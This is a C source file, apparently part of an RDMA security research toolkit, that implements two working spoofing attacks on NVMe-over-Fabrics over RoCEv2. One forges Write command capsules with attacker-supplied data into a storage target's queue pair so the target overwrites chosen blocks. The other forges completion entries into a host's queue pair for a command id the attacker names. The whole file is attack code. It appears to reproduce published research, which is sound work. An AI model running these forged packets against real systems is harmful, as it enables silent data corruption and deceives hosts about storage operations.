/* SPDX-License-Identifier: MIT */
/*
 * spoof-request and spoof-response (NeVerMore 5.2.1, 5.2.2): NVMe-oF capsules
 * forged into RoCEv2 SENDs. NVMe-oF over RDMA authenticates nothing per
 * message: a SEND that rxe accepts on an I/O queue QP (right source address,
 * QPN, expected PSN; the ICRC anyone computes) is a command to the target or
 * a completion to the host.
 *   spoof-request: a Write command with its data in the capsule, into the
 *     target's I/O queue QP, as if from the host: the target writes the
 *     attacker's blocks to its namespace.
 *   spoof-response: a completion (CQE) into the host's I/O queue QP, as if
 *     from the target, for a command id the attacker names.
 */
#include <getopt.h>
#include <string.h>

#include "common/attack.h"
#include "proto/nvme_capsule.h"

enum {
	OPT_NSID = OPT_FIRST_PRIVATE, OPT_SLBA, OPT_BLOCKS, OPT_BLOCK_SIZE, OPT_PATTERN, OPT_PATTERN_HEX, OPT_CID,
	OPT_SQ_ID, OPT_SQ_HEAD, OPT_STATUS, OPT_RESULT,
};

/* One SEND Only packet; the default capsule (64 + 512 bytes) fits the fabric's 1024-byte path MTU. */
enum { MAX_DATA = ROCE_MAX_PAYLOAD - NVME_SQE_LEN, DEFAULT_CID = 0xffff };

struct request_opts {
	struct forge_opts forge;
	uint32_t nsid, blocks, block_size, cid;
	uint64_t slba;
	bool have_slba;
	uint8_t pattern[MAX_DATA];
	size_t pattern_len;
};

struct response_opts {
	struct forge_opts forge;
	struct nvme_cqe cqe;
	bool have_cid;
};

static void request_help(FILE *f)
{
	fprintf(f, "Usage: %s spoof-request --dst IP --src IP --qpn N (--psn N | --psn-sweep S:C) --slba N [options]\n"
		"Forge an NVMe-oF Write command capsule with in-capsule data (RC SEND Only)\n"
		"into the target's I/O queue QP, as if from the host.\n\n"
		FORGE_HELP
		"  --slba N              first logical block to overwrite\n"
		"  --blocks N            how many blocks (default 1)\n"
		"  --block-size N        the namespace's logical block size (default 512)\n"
		"  --nsid N              namespace id (default 1)\n"
		"  --pattern TEXT        data, repeated to fill the blocks (default \"NVMF-SPOOFED-BY-RDMASEC-ATTACK \")\n"
		"  --pattern-hex HEX     data as hex digits, repeated likewise\n"
		"  --cid N               command id (default 0xffff: no request of the host's has it)\n"
		"  -h, --help\n\n"
		"The target must accept in-capsule data of that size (nvmet-rdma: the port's\n"
		"param_inline_data_size, default one page). --dst is the target, --src the host.\n"
		"Exit status: 0 sent, 1 failed, 2 bad usage.\n", PROG);
}

static void response_help(FILE *f)
{
	fprintf(f, "Usage: %s spoof-response --dst IP --src IP --qpn N (--psn N | --psn-sweep S:C) --cid N [options]\n"
		"Forge an NVMe-oF completion (16-byte CQE in an RC SEND Only) into the host's\n"
		"I/O queue QP, as if from the target.\n\n"
		FORGE_HELP
		"  --cid N               command id to complete (0..0xFFFF)\n"
		"  --sq-id N             submission queue id (default 1, the first I/O queue)\n"
		"  --sq-head N           SQ head pointer (default 0)\n"
		"  --status N            15-bit status field (default 0: success)\n"
		"  --result N            command-specific DW0-DW1 (default 0)\n"
		"  -h, --help\n\n"
		"--dst is the host, --src the target.\n"
		"Exit status: 0 sent, 1 failed, 2 bad usage.\n", PROG);
}

static const struct option request_long_opts[] = {
	FORGE_LONG_OPTIONS,
	{ "nsid", required_argument, NULL, OPT_NSID },
	{ "slba", required_argument, NULL, OPT_SLBA },
	{ "blocks", required_argument, NULL, OPT_BLOCKS },
	{ "block-size", required_argument, NULL, OPT_BLOCK_SIZE },
	{ "pattern", required_argument, NULL, OPT_PATTERN },
	{ "pattern-hex", required_argument, NULL, OPT_PATTERN_HEX },
	{ "cid", required_argument, NULL, OPT_CID },
	{ "help", no_argument, NULL, 'h' },
	{ 0 },
};

static const struct option response_long_opts[] = {
	FORGE_LONG_OPTIONS,
	{ "cid", required_argument, NULL, OPT_CID },
	{ "sq-id", required_argument, NULL, OPT_SQ_ID },
	{ "sq-head", required_argument, NULL, OPT_SQ_HEAD },
	{ "status", required_argument, NULL, OPT_STATUS },
	{ "result", required_argument, NULL, OPT_RESULT },
	{ "help", no_argument, NULL, 'h' },
	{ 0 },
};

static bool parse_u16_opt(const char *arg, uint32_t max, uint16_t *out, const char *what)
{
	uint32_t v;

	if (!parse_u32(arg, max, &v, what))
		return false;
	*out = (uint16_t)v;
	return true;
}

/* One of spoof-request's own options into o; false if it was bad. */
static bool request_opt(int opt, const char *arg, void *ctx)
{
	struct request_opts *o = ctx;

	switch (opt) {
	case OPT_NSID: return parse_u32(arg, UINT32_MAX, &o->nsid, "--nsid");
	case OPT_SLBA: o->have_slba = true; return parse_u64(arg, UINT64_MAX, &o->slba, "--slba");
	case OPT_BLOCKS: return parse_u32(arg, 0x10000, &o->blocks, "--blocks");
	case OPT_BLOCK_SIZE: return parse_u32(arg, MAX_DATA, &o->block_size, "--block-size");
	case OPT_CID: return parse_u32(arg, 0xffff, &o->cid, "--cid");
	case OPT_PATTERN:
		o->pattern_len = strlen(arg);
		if (o->pattern_len == 0 || o->pattern_len > sizeof(o->pattern)) {
			fprintf(stderr, "%s spoof-request: --pattern must be 1..%zu bytes\n", PROG, sizeof(o->pattern));
			return false;
		}
		memcpy(o->pattern, arg, o->pattern_len);
		return true;
	case OPT_PATTERN_HEX: return parse_hex(arg, o->pattern, sizeof(o->pattern), &o->pattern_len, "--pattern-hex");
	default: return false;
	}
}

/* One of spoof-response's own options into o; false if it was bad. */
static bool response_opt(int opt, const char *arg, void *ctx)
{
	struct response_opts *o = ctx;

	switch (opt) {
	case OPT_CID: o->have_cid = true; return parse_u16_opt(arg, 0xffff, &o->cqe.cid, "--cid");
	case OPT_SQ_ID: return parse_u16_opt(arg, 0xffff, &o->cqe.sq_id, "--sq-id");
	case OPT_SQ_HEAD: return parse_u16_opt(arg, 0xffff, &o->cqe.sq_head, "--sq-head");
	case OPT_STATUS: return parse_u16_opt(arg, 0x7fff, &o->cqe.status, "--status");
	case OPT_RESULT: return parse_u64(arg, UINT64_MAX, &o->cqe.result, "--result");
	default: return false;
	}
}

/* The data of the forged write: the pattern repeated over blocks * block_size bytes. */
static bool request_data(const struct request_opts *o, uint8_t *data, size_t *len)
{
	uint64_t n = (uint64_t)o->blocks * o->block_size;

	if (o->blocks == 0 || o->block_size == 0 || n > MAX_DATA) {
		fprintf(stderr, "%s spoof-request: --blocks x --block-size must be 1..%d bytes (one SEND)\n", PROG,
			MAX_DATA);
		return false;
	}
	for (size_t i = 0; i < n; i++)
		data[i] = o->pattern[i % o->pattern_len];
	*len = (size_t)n;
	return true;
}

static void request_report(const struct request_opts *o, size_t data_len, uint64_t sent, int rc)
{
	const struct forge_opts *f = &o->forge;
	char s1[16], s2[16];

	if (!f->json) {
		printf("spoof-request: %s %llu forged NVMe Write capsule(s) %s -> %s qpn 0x%06x psn 0x%06x%s: "
		       "nsid %u slba %llu, %u block(s), %zu bytes in capsule, cid 0x%04x\n",
		       f->no_send ? "built" : "sent", (unsigned long long)sent, ipv4_str(f->src_ip, s1),
		       ipv4_str(f->dst_ip, s2), f->qpn, f->psn, f->count > 1 ? " (first)" : "", o->nsid,
		       (unsigned long long)o->slba, o->blocks, data_len, o->cid);
		return;
	}
	struct json j;
	json_begin(&j, "spoof-request");
	json_str(&j, "dst", ipv4_str(f->dst_ip, s1));
	json_str(&j, "src", ipv4_str(f->src_ip, s2));
	json_hex(&j, "qpn", f->qpn);
	json_hex(&j, "psn_first", f->psn);
	json_u64(&j, "count", f->count);
	json_u64(&j, "nsid", o->nsid);
	json_u64(&j, "slba", o->slba);
	json_u64(&j, "blocks", o->blocks);
	json_u64(&j, "data_len", data_len);
	json_hex(&j, "cid", o->cid);
	json_u64(&j, "sent", sent);
	json_boolean(&j, "ok", rc == 0);
	json_end(&j);
}

int spoof_request_main(int argc, char *argv[])
{
	static const char default_pattern[] = "NVMF-SPOOFED-BY-RDMASEC-ATTACK ";
	static struct request_opts o;
	static uint8_t data[MAX_DATA], capsule[ROCE_MAX_PAYLOAD];
	struct nvme_sqe s = { .opcode = NVME_OP_WRITE, .flags = NVME_FLAG_SGL_METABUF };
	struct roce_pkt p = { .opcode = ROCE_RC_SEND_ONLY, .ack_req = true };
	size_t data_len = 0, capsule_len = 0;
	uint64_t sent = 0;
	bool bad = false;
	int rc;

	o = (struct request_opts){ .forge = { .count = 1 }, .nsid = 1, .blocks = 1, .block_size = 512,
				   .cid = DEFAULT_CID, .pattern_len = sizeof(default_pattern) - 1 };
	memcpy(o.pattern, default_pattern, o.pattern_len);
	rc = forge_getopt(argc, argv, request_long_opts, "spoof-request", &o.forge, request_opt, &o, request_help, &bad);
	if (rc >= 0)
		return rc;
	if (!bad && !o.have_slba) {
		fprintf(stderr, "%s spoof-request: missing --slba (see --help)\n", PROG);
		bad = true;
	}
	if (bad || !forge_check(&o.forge, "spoof-request") || !request_data(&o, data, &data_len))
		return 2;
	s.cid = (uint16_t)o.cid;
	s.nsid = o.nsid;
	s.slba = o.slba;
	s.nlb = (uint16_t)(o.blocks - 1);
	s.sgl = (struct nvme_sgl){ .id = NVME_SGL_INLINE, .length = (uint32_t)data_len };
	if ((rc = nvme_capsule_build(&s, data, data_len, capsule, sizeof(capsule), &capsule_len)) != 0) {
		fprintf(stderr, "%s spoof-request: cannot build the capsule: %s\n", PROG, rsec_strerror(rc));
		return 1;
	}
	p.payload = capsule;
	p.payload_len = capsule_len;
	rc = forge_run(&o.forge, &p, &sent);
	request_report(&o, data_len, sent, rc);
	return rc == 0 ? 0 : 1;
}

static void response_report(const struct response_opts *o, uint64_t sent, int rc)
{
	const struct forge_opts *f = &o->forge;
	char s1[16], s2[16];

	if (!f->json) {
		printf("spoof-response: %s %llu forged NVMe completion(s) %s -> %s qpn 0x%06x psn 0x%06x%s: "
		       "cid 0x%04x sq %u head %u status 0x%04x\n",
		       f->no_send ? "built" : "sent", (unsigned long long)sent, ipv4_str(f->src_ip, s1),
		       ipv4_str(f->dst_ip, s2), f->qpn, f->psn, f->count > 1 ? " (first)" : "", o->cqe.cid,
		       o->cqe.sq_id, o->cqe.sq_head, o->cqe.status);
		return;
	}
	struct json j;
	json_begin(&j, "spoof-response");
	json_str(&j, "dst", ipv4_str(f->dst_ip, s1));
	json_str(&j, "src", ipv4_str(f->src_ip, s2));
	json_hex(&j, "qpn", f->qpn);
	json_hex(&j, "psn_first", f->psn);
	json_u64(&j, "count", f->count);
	json_hex(&j, "cid", o->cqe.cid);
	json_u64(&j, "sq_id", o->cqe.sq_id);
	json_hex(&j, "status", o->cqe.status);
	json_u64(&j, "sent", sent);
	json_boolean(&j, "ok", rc == 0);
	json_end(&j);
}

int spoof_response_main(int argc, char *argv[])
{
	struct response_opts o = { .forge = { .count = 1 }, .cqe = { .sq_id = 1 } };
	struct roce_pkt p = { .opcode = ROCE_RC_SEND_ONLY, .ack_req = true };
	uint8_t cqe[NVME_CQE_LEN];
	uint64_t sent = 0;
	bool bad = false;
	int rc;

	rc = forge_getopt(argc, argv, response_long_opts, "spoof-response", &o.forge, response_opt, &o, response_help,
			  &bad);
	if (rc >= 0)
		return rc;
	if (!bad && !o.have_cid) {
		fprintf(stderr, "%s spoof-response: missing --cid (see --help)\n", PROG);
		bad = true;
	}
	if (bad || !forge_check(&o.forge, "spoof-response"))
		return 2;
	if ((rc = nvme_cqe_encode(&o.cqe, cqe)) != 0) {
		fprintf(stderr, "%s spoof-response: cannot build the completion: %s\n", PROG, rsec_strerror(rc));
		return 1;
	}
	p.payload = cqe;
	p.payload_len = sizeof(cqe);
	rc = forge_run(&o.forge, &p, &sent);
	response_report(&o, sent, rc);
	return rc == 0 ? 0 : 1;
}
